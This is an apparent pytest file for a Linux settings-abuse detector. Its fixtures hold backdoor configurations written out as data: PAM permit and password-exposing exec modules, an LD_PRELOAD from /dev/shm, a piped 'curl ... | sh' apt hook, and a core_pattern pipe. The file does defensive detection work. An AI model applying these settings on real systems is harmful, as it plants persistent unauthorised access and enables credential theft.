# SPDX-License-Identifier: Apache-2.0
"""A setting that lets somebody in is told; the settings of a stock system are not."""

from __future__ import annotations

from typing import Any

import pytest
from memory_events import MemoryEvents

from headwater.detect import registry
from headwater.detect.detectors import settings_abuse
from headwater.model.kinds import EventKind, Severity
from headwater.model.ports import Settings


def run(path: str, *lines: dict[str, Any], kind: EventKind = EventKind.STATE_SETTING) -> list[Any]:
    events = MemoryEvents().say("linux.setting", "p1!" + path, *((kind, None, line) for line in lines))
    return list(registry.run(settings_abuse, events, Settings()))


def pam(kind: str, control: str, module: str, arguments: str = "") -> dict[str, Any]:
    value = f"{kind} {control} {module} {arguments}".strip()
    return {
        "mechanism": "pam", "setting": kind, "control": control, "module": module, "arguments": arguments, "value": value,
    }  # fmt: skip


def sshd(setting: str, value: str, **more: Any) -> dict[str, Any]:
    return {"mechanism": "sshd", "setting": setting, "value": value, **more}


@pytest.mark.parametrize(
    ("path", "line", "reason", "severity"),
    [
        ("/etc/pam.d/sshd", pam("auth", "sufficient", "pam_permit.so"), "pam-permit", Severity.HIGH),
        ("/etc/pam.d/su", pam("auth", "optional", "pam_exec.so", "expose_authtok /bin/x"), "pam-exec", Severity.HIGH),
        ("/etc/pam.d/su", pam("auth", "required", "/tmp/a.so"), "pam-module", Severity.HIGH),
        ("/etc/ssh/sshd_config", sshd("PermitRootLogin", "yes"), "root-password", Severity.LOW),
        ("/etc/ssh/sshd_config", sshd("PermitEmptyPasswords", "yes"), "empty-password", Severity.MEDIUM),
        (
            "/root/.bashrc",
            {"mechanism": "shell-start", "setting": "LD_PRELOAD", "value": "export LD_PRELOAD=/dev/shm/.x.so"},
            "preload",
            Severity.HIGH,
        ),
        (
            "/etc/apt/apt.conf.d/99x",
            {"mechanism": "apt", "command_line": "curl -s http://203.0.113.7/a.sh | sh", "value": "x"},
            "command",
            Severity.HIGH,
        ),
        (
            "/etc/update-motd.d/99-x",
            {"mechanism": "motd", "command_line": "/etc/update-motd.d/99-x", "script": "#!/bin/sh\n/dev/shm/.k &\n"},
            "command",
            Severity.HIGH,
        ),
        (
            "/etc/sysctl.d/x.conf",
            {"mechanism": "sysctl", "setting": "kernel.core_pattern", "value": "|/tmp/.x %p"},
            "core-pattern",
            Severity.HIGH,
        ),
    ],
)
def test_a_way_in_is_told(path: str, line: dict[str, Any], reason: str, severity: Severity) -> None:
    (found,) = run(path, line)
    assert (found.facts["reason"], found.severity) == (reason, severity)
    assert found.spans


def test_a_privileged_container_on_the_hosts_root() -> None:
    line = {"mechanism": "docker", "risks": "privileged\nmount=/"}
    (found,) = run("/var/lib/docker/containers/a/hostconfig.json", line, kind=EventKind.STATE_SERVICE)
    assert found.facts["reason"] == "container"


def test_stock_settings_are_nothing() -> None:
    assert not run("/etc/pam.d/common-auth", pam("auth", "required", "pam_permit.so"), pam("auth", "[success=1]", "pam_unix.so", "nullok"))  # fmt: skip
    assert not run("/etc/ssh/sshd_config", sshd("PermitRootLogin", "yes"), sshd("PasswordAuthentication", "no"))
    assert not run("/etc/ssh/sshd_config", sshd("PermitRootLogin", "yes", effective=False), sshd("UsePAM", "yes"))
    assert not run("/etc/modprobe.d/x", {"mechanism": "modprobe", "command_line": "/bin/true", "value": "install f /bin/true"})  # fmt: skip
    assert not run("/etc/sysctl.conf", {"mechanism": "sysctl", "setting": "kernel.core_pattern", "value": "|/usr/lib/systemd/systemd-coredump %P"})  # fmt: skip
    assert not run("/etc/update-motd.d/10-uname", {"mechanism": "motd", "script": "#!/bin/sh\nuname -snrvm\n"})
    assert not run("/h/hostconfig.json", {"mechanism": "docker", "risks": "network=host"}, kind=EventKind.STATE_SERVICE)
